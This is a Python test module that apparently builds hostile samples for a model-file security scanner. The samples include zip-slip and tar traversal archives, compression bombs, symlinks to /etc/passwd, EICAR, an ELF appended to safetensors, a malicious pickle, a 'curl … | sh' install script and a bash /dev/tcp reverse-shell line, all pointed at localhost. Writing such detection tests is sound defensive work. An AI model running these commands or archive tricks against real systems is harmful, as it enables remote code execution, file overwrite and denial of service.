"""Containers and generic content: zip/tar/7z tricks, bombs, links, nesting, unknown and unreadable files.

The malicious pickle inside is the red-team corpus' plain ``os.system`` payload (tests/corpus/containers.py);
it would only touch the case's canary, and nothing here loads it.
"""

from __future__ import annotations

import bz2
import gzip
import io
import os
import stat
import struct
import tarfile
import zipfile

from tests.corpus.containers import patch_zip_member, payload, tar_bytes, torch_members, zip_bytes
from tests.corpus.model import Ctx
from tests.e2e.model import Scan, Where

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
#: An ELF64 x86-64 executable header (what a dropper appends to weights), padded.
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\x00\x3e\x00" + b"\0" * 200


def evil_pickle(w: Where) -> bytes:
    """The corpus' plain malicious pickle, with this case's canary."""
    return payload(Ctx(w.dir, w.dir.name))


def write(w: Where, name: str, data: bytes) -> Scan:
    """Write ``data`` to ``name`` in the case folder; scan that file."""
    path = w.path(name)
    path.write_bytes(data)
    return Scan(path)


def zip_unsupported_method(w: Where) -> Scan:
    """A stored member whose headers claim deflate64 (method 9), which no Python zip reader decodes."""

    def method9(buf: bytearray, pos: int, at: int) -> None:
        struct.pack_into("<H", buf, pos + at, 9)

    data = zip_bytes(torch_members(evil_pickle(w)))
    data = patch_zip_member(data, "archive/data.pkl", lambda b, p: method9(b, p, 8), lambda b, p: method9(b, p, 10))
    return write(w, "model.pt", data)


def zip_path_traversal(w: Where) -> Scan:
    """Zip slip: a member named ``../canary`` and one named by the canary's absolute path."""
    members = {"../canary": b"* * * * * root id\n", str(w.canary): b"x"}
    return write(w, "model/bundle.zip", zip_bytes(members))


def tar_path_traversal(w: Where) -> Scan:
    """A tar member named ``../canary``."""
    return write(w, "model/bundle.tar", tar_bytes({"../canary": evil_pickle(w)}))


def zip_bomb_overlap(w: Where) -> Scan:
    """A zip whose second central entry points at the first member's local header (overlapping members)."""
    data = bytearray(zip_bytes({"a.bin": b"A" * 100, "b.bin": b"B" * 100}))
    central_b = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)
    struct.pack_into("<I", data, central_b + 42, 0)
    return write(w, "overlap.zip", bytes(data))


def zip_bomb_ratio(w: Where) -> Scan:
    """64 MiB of zeros compressed with bzip2 inside a zip: a ratio far beyond 1000:1."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("zeros.bin", bytes(64 << 20))
    return write(w, "bomb.zip", buf.getvalue())


def bzip2_bomb(w: Where) -> Scan:
    """bzip2 stream of 64 MiB of zeros (a few hundred bytes on disk)."""
    return write(w, "weights.bin.bz2", bz2.compress(bytes(64 << 20)))


def sevenzip_encrypted(w: Where) -> Scan:
    """A password-protected 7z archive (py7zr): the member cannot be analysed."""
    import py7zr

    path = w.path("model.7z")
    with py7zr.SevenZipFile(path, "w", password="secret") as archive:
        archive.writestr(evil_pickle(w), "model.pkl")
    return Scan(path)


def zip_symlink(w: Where) -> Scan:
    """A zip member that is a Unix symlink to /etc/passwd (mode S_IFLNK in the external attributes)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("config.json", b"{}")
        info = zipfile.ZipInfo("weights.bin")
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, b"/etc/passwd")
    return write(w, "model.zip", buf.getvalue())


def tar_symlink(w: Where) -> Scan:
    """A tar symlink member pointing at /etc/passwd."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as archive:
        info = tarfile.TarInfo("weights.bin")
        info.type = tarfile.SYMTYPE
        info.linkname = "/etc/passwd"
        archive.addfile(info)
    return write(w, "model.tar", buf.getvalue())


def tar_hardlink(w: Where) -> Scan:
    """A tar hard link member (extracting it links to whatever the name resolves to)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as archive:
        data = tarfile.TarInfo("weights.bin")
        data.size = 4
        archive.addfile(data, io.BytesIO(b"\0\0\0\0"))
        link = tarfile.TarInfo("model.bin")
        link.type = tarfile.LNKTYPE
        link.linkname = "weights.bin"
        archive.addfile(link)
    return write(w, "model.tar", buf.getvalue())


def sevenzip_symlink(w: Where) -> Scan:
    """A 7z archive holding a real symlink to /etc/passwd, stored by py7zr."""
    import py7zr

    src = w.path("src", "f.bin")
    src.write_bytes(b"\0" * 16)
    os.symlink("/etc/passwd", src.parent / "link")
    path = w.path("links.7z")
    with py7zr.SevenZipFile(path, "w") as archive:
        archive.writeall(src.parent, "m")
    return Scan(path)


def nested_gzip(w: Where) -> Scan:
    """A pickle wrapped in 12 layers of gzip: deeper than the archive nesting limit."""
    data = evil_pickle(w)
    for _ in range(12):
        data = gzip.compress(data)
    return write(w, "deep.gz", data)


def truncated_zip(w: Where) -> Scan:
    """A deflated zip cut before its central directory."""
    data = zip_bytes({"a.pkl": evil_pickle(w), "b.bin": b"x" * 100}, zipfile.ZIP_DEFLATED)
    return write(w, "cut.zip", data[: data.find(b"PK\x01\x02")])


def unknown_bytes(w: Where) -> Scan:
    """Binary content no reader recognises."""
    return write(w, "blob.dat", bytes(range(256)) * 4)


def empty_file(w: Where) -> Scan:
    """An empty file."""
    return write(w, "model.bin", b"")


def dangling_symlink(w: Where) -> Scan:
    """A model folder with a config and a weights symlink whose target does not exist."""
    folder = w.path("model", "config.json").parent
    (folder / "config.json").write_text('{"model_type": "bert"}')
    os.symlink(folder / "missing-weights.bin", folder / "pytorch_model.bin")
    return Scan(folder)


def sparse_file_with_timeout(w: Where) -> Scan:
    """3 GiB of sparse zeros hashed (``--hash``) by a worker with a 0.3 s budget: the parent kills it."""
    path = w.path("huge.bin")
    with open(path, "wb") as stream:
        stream.truncate(3 << 30)
    return Scan(path, ("--hash", "--jobs", "2", "--timeout", "0.3"))


def eicar(w: Where) -> Scan:
    """The EICAR anti-malware test file."""
    return write(w, "eicar.com", EICAR)


def elf_appended_to_safetensors(w: Where) -> Scan:
    """A valid safetensors file with an ELF executable appended after the tensor data."""
    from tests.e2e.weights import safetensors_bytes

    return write(w, "model.safetensors", safetensors_bytes() + ELF)


def shell_script(w: Where) -> Scan:
    """An install script with a ``#!/bin/sh`` line shipped in a model folder."""
    return write(w, "install", b"#!/bin/sh\ncurl http://127.0.0.1:9/payload | sh\n")


def reverse_shell_readme(w: Where) -> Scan:
    """A model card carrying a reverse-shell command line (bundled YARA rule)."""
    return write(w, "README.md", b"# model\nrun: bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n")
